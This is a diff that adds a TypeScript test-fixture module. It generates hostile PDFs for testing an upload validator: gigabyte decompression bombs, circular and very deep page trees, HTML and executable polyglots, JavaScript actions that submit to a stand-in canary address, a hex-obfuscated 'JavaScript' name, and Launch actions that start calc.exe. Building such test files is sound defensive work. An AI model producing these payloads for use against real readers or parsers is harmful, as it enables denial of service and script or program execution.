@@ -1,0 +1,130 @@
+import {
+  bomb,
+  CATALOG,
+  compressedPdf,
+  objectStream,
+  onePage,
+  page,
+  PAGES,
+  pdfOf,
+  pdfWithTable,
+} from './pdf-maker.ts'
+
+/** What becomes of a file at the door: taken and inert, or refused with this code. */
+type Fate = 'taken' | 'NOT_A_PDF' | 'DAMAGED_PDF' | 'ACTIVE_PDF'
+
+/** A file made to hurt whoever opens it, and the answers that are right. */
+export type HostilePdf = { name: string; content: Buffer; fates: readonly Fate[] }
+
+const pdf = (name: string, content: Buffer, ...fates: Fate[]): HostilePdf => ({ name, content, fates })
+
+function manyPages(count: number): Buffer {
+  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ')
+  const pages = Array.from({ length: count }, () => page())
+  return pdfOf([CATALOG, `<</Type/Pages/Kids[${kids}]/Count ${count}>>`, ...pages])
+}
+
+/** A page below `depth` nodes that each have one child. */
+function deepTree(depth: number): Buffer {
+  const nodes = Array.from({ length: depth }, (_, index) => {
+    const parent = index === 0 ? '' : `/Parent ${index + 1} 0 R`
+    return `<</Type/Pages${parent}/Kids[${index + 3} 0 R]/Count 1>>`
+  })
+  return pdfOf([CATALOG, ...nodes, `<</Type/Page/Parent ${depth + 1} 0 R/MediaBox[0 0 200 200]>>`])
+}
+
+function withLoopingTables(): Buffer {
+  const whole = onePage().toString('latin1')
+  return Buffer.from(whole.replace('/Root 1 0 R', `/Root 1 0 R/Prev ${whole.indexOf('xref\n0')}`), 'latin1')
+}
+
+const counting = (count: number) => pdfOf([CATALOG, `<</Type/Pages/Kids[3 0 R]/Count ${count}>>`, page()])
+const BLANK = 0x20
+const hidden = () => bomb('/Type/ObjStm/N 3/First 900000000', BLANK)
+const table = () => bomb('/Type/XRef/W[1 4 2]/Size 100000000/Root 1 0 R', 0)
+
+/** Files that take long, take much, lead in circles, lie or end too early; made anew by each call. */
+export function exhaustingPdfs(): HostilePdf[] {
+  return [
+    pdf('a gigabyte in a page', onePage('', '/Contents 4 0 R', bomb('', BLANK)), 'taken'),
+    pdf('a gigabyte of cross-references', pdfWithTable(table()), 'taken', 'DAMAGED_PDF'),
+    pdf('a gigabyte of objects', compressedPdf(CATALOG, hidden()), 'DAMAGED_PDF'),
+    pdf('10,000 pages', manyPages(10_000), 'taken'),
+    pdf('a page tree 20,000 deep', deepTree(20_000), 'taken', 'DAMAGED_PDF'),
+    pdf(
+      'dictionaries 100,000 deep',
+      onePage(`/X ${'<</X '.repeat(100_000)}1${'>>'.repeat(100_000)}`),
+      'DAMAGED_PDF',
+    ),
+    pdf('a million arrays that never end', onePage(`/X ${'['.repeat(1_000_000)}`), 'DAMAGED_PDF'),
+    pdf('a page tree in itself', pdfOf([CATALOG, '<</Type/Pages/Kids[2 0 R]/Count 1>>']), 'DAMAGED_PDF'),
+    pdf(
+      'page trees in a ring',
+      pdfOf([CATALOG, PAGES, '<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 3>>']),
+      'DAMAGED_PDF',
+    ),
+    pdf('cross-reference tables in a ring', withLoopingTables(), 'taken'),
+    pdf('two thousand million pages, it says', counting(2 ** 31 - 1), 'taken', 'DAMAGED_PDF'),
+    pdf('minus five pages, it says', counting(-5), 'taken', 'DAMAGED_PDF'),
+    pdf('cut in the middle', manyPages(50).subarray(0, 1500), 'taken', 'DAMAGED_PDF'),
+  ]
+}
+
+/** Files that are something else besides, or carry something along that nothing here opens. */
+export function disguisedPdfs(): HostilePdf[] {
+  const html = '<html><script>alert(1)</script></html>'
+  const program = { entries: '/Type/EmbeddedFile', stream: Buffer.from('MZ\u0090') }
+  const names = '/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>'
+  const form = {
+    entries: '',
+    stream: Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>'),
+  }
+  return [
+    pdf(
+      'a page of HTML as well',
+      Buffer.concat([Buffer.from(`%PDF-1.7\n%${html}\n`), onePage().subarray(9)]),
+      'taken',
+    ),
+    pdf('HTML before a PDF', Buffer.concat([Buffer.from(html), onePage()]), 'NOT_A_PDF'),
+    pdf(
+      'an archive after a PDF',
+      Buffer.concat([onePage(), Buffer.from('PK\u0003\u0004 PK\u0005\u0006'), Buffer.alloc(18)]),
+      'taken',
+    ),
+    pdf(
+      'an embedded program',
+      onePage(names, '', '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>', program),
+      'taken',
+    ),
+    pdf('a form of XML', onePage('/AcroForm<</Fields[]/XFA 4 0 R>>', '', form), 'taken'),
+  ]
+}
+
+/** Files that run a script or start a program, by themselves or at a click; `canary` is an address their scripts call. */
+export function activePdfs(canary = 'https://canary.example/'): HostilePdf[] {
+  const script = `/S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('${canary}'\\))`
+  const launch = '/S/Launch/F(calc.exe)'
+  const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[10 10 100 100]/A<<${action}>>>>]`
+  const field = `<</Type/Annot/Subtype/Widget/Rect[10 10 100 100]/FT/Tx/T(a)/AA<</K<<${script}>>>>>>`
+  const inStream = objectStream([PAGES, page(), `<<${script}>>`])
+  return [
+    pdf('a script on opening', onePage(`/OpenAction<<${script}>>`), 'ACTIVE_PDF'),
+    pdf('a script by name', onePage(`/Names<</JavaScript<</Names[(a)<<${script}>>]>>>>`), 'ACTIVE_PDF'),
+    pdf('a script on closing', onePage(`/AA<</WC<<${script}>>>>`), 'ACTIVE_PDF'),
+    pdf('a script of a page', onePage('', `/AA<</O<<${script}>>>>`), 'ACTIVE_PDF'),
+    pdf(
+      'a script spelt in digits',
+      onePage(`/OpenAction<<${script.replace('Java', '#4aav#61')}>>`),
+      'ACTIVE_PDF',
+    ),
+    pdf('a script behind a link', onePage('', link(script)), 'ACTIVE_PDF'),
+    pdf('a script of a field', onePage('/AcroForm<</Fields[4 0 R]>>', '/Annots[4 0 R]', field), 'ACTIVE_PDF'),
+    pdf(
+      'a script in an object stream',
+      compressedPdf('<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>', inStream),
+      'ACTIVE_PDF',
+    ),
+    pdf('a program on opening', onePage(`/OpenAction<<${launch}>>`), 'ACTIVE_PDF'),
+    pdf('a program behind a link', onePage('', link(launch)), 'ACTIVE_PDF'),
+  ]
+}
